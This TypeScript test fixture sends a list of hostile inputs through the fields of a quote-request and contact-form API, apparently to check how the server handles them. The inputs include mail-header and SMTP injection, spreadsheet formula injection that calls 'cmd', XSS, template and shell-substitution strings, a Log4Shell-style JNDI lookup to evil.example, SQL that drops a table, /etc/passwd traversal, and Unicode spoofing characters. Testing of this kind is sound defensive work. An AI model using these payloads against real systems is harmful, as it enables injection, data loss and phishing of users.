import {contactWith, leadWith, post, type HostileRequest} from './hostile-request.ts';

/** Values that later programs could interpret: mail headers, spreadsheets, pages, shells, databases, people. */
const values: readonly (readonly [name: string, value: string])[] = [
  ['a mail head', 'A\r\nBcc: victim@mail.example'],
  ['a mail head by line feed', 'A\nBcc: victim@mail.example'],
  ['a mail head by carriage return', 'A\rBcc: victim@mail.example'],
  ['a mail head by line separator', 'A\u2028Bcc: victim@mail.example'],
  ['a mail head by next line', 'A\u0085Bcc: victim@mail.example'],
  ['a mail head, percent-encoded', 'A%0d%0aBcc:%20victim@mail.example'],
  ['a mail body', 'A\r\n\r\nClick https://evil.example'],
  ['the end of a mail', 'A\r\n.\r\nMAIL FROM:<a@evil.example>'],
  ['an encoded word', '=?utf-8?B?DQpCY2M6IGFAYi5leGFtcGxl?='],
  ['an address with a name', 'A <victim@mail.example>, B'],
  ['a boundary', '--=_boundary--'],
  ['a formula', '=HYPERLINK("http://evil.example","click")'],
  ['a formula with a plus', '+1+1|cmd'],
  ['a formula with a minus', "-2+3+cmd|' /C calc'!A0"],
  ['a formula with an at sign', '@SUM(1+1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula in full-width signs', '＝1+1'],
  ['a cell’s end', '","=1+1","'],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['the end of a title', '</title><svg/onload=alert(1)>'],
  ['an address that is a script', 'javascript:alert(1)'],
  ['a template', '{{constructor.constructor("return process")()}}'],
  ['a template of i18next', '{{name}} $t(failedTitle)'],
  ['a template of a shell', '$(id) `id` ${HOME}'],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
  ['SQL', "'; drop table submission; --"],
  ['SQL with a comment', "' or 1=1 /*"],
  ['a pattern of SQL', '%_%'],
  ['a format', '%s%s%n%x'],
  ['a path', '../../../../etc/passwd'],
  ['a path to a device', 'CON.eml'],
  ['NUL', 'A\u0000B'],
  ['an escape of the terminal', '\u001b[2J\u001b]0;evil\u0007'],
  ['a bell', '\u0007\u0008'],
  ['delete', 'A\u007fB'],
  ['right to left', '\u202Egnp.exe\u202C'],
  ['isolates that are never closed', '\u2066\u2067\u2068A'],
  ['zero width', 'A\u200B\u200C\u200D\u2060\uFEFFB'],
  ['nothing but zero width', '\u200B\u200B\u200B'],
  ['a soft hyphen', 'A\u00ADB'],
  ['a filler of Hangul', '\u3164\u115F'],
  ['a blank of Braille', '\u2800'],
  ['combining marks without end', `Z${'\u0301\u0316\u0489'.repeat(25)}`],
  ['composed', 'Jos\u00e9 \u1e9b\u0323'],
  ['decomposed', 'Jose\u0301 \u017f\u0323\u0307'],
  ['ligatures', '\uFDFA \uFB03'],
  ['a family', '👨‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿'],
  ['flags in halves', '🇺🇺🇸'],
  ['letters that look alike', 'Аlіcе раyраl'],
  ['a lone high surrogate', 'A\uD800'],
  ['a lone low surrogate', '\uDC00A'],
  ['surrogates the wrong way round', '\uDC00\uD800'],
  ['no character', '\uFFFE\uFFFF'],
  ['private use', '\uE000\u{10FFFD}'],
  ['tags', '\u{E0041}\u{E0042}'],
  ['variation selectors', 'A\uFE0F\uFE0E\u{E0100}'],
  ['Chinese beyond the basic plane', '\u{20BB7}\u{2A6A5}'],
  ['a dotless i', 'İıſK'],
  ['an endless word', 'x'.repeat(30_000)],
  ['an endless emoji', '🧨'.repeat(8_000)],
];

const leadFields = ['firstName', 'lastName', 'email', 'phone'] as const;
const contactFields = ['name', 'email', 'subject', 'message'] as const;
const contextFields = ['partner', 'page', 'widget', 'version'] as const;

const WANTED = 'answered';

// Each value in a field of each kind, so that every field receives every third value and every value is sent in three fields.
const inTurn = <Value>(list: readonly Value[], at: number): Value => {
  const value = list[at % list.length];
  if (value === undefined) throw new Error('nothing to choose from');
  return value;
};

/** Every value in the answers of a quote request, in a message, and in the context. */
export const fields: readonly HostileRequest[] = values.flatMap(
  ([name, value], at): readonly HostileRequest[] => {
    const [leadField, contactField, contextField] = [
      inTurn(leadFields, at),
      inTurn(contactFields, at + Math.floor(at / 4)),
      inTurn(contextFields, at + Math.floor(at / 8)),
    ];
    const message = {path: '/api/contact', wanted: WANTED} as const;
    const isMailed = contactField === 'message' || contactField === 'subject';
    return [
      post(`${name} as ${leadField}`, leadWith({[leadField]: value}), {wanted: WANTED}),
      post(`${name} as ${contactField} of a message`, contactWith({[contactField]: value}), message),
      post(`${name} as ${contextField}`, leadWith({context: {[contextField]: value}}), {wanted: WANTED}),
      // The fields that appear in the subject and the text of a mail.
      isMailed
        ? post(`${name} as name and message`, contactWith({name: value, message: value}), message)
        : post(`${name} as subject and message`, contactWith({subject: value, message: value}), message),
    ];
  },
);
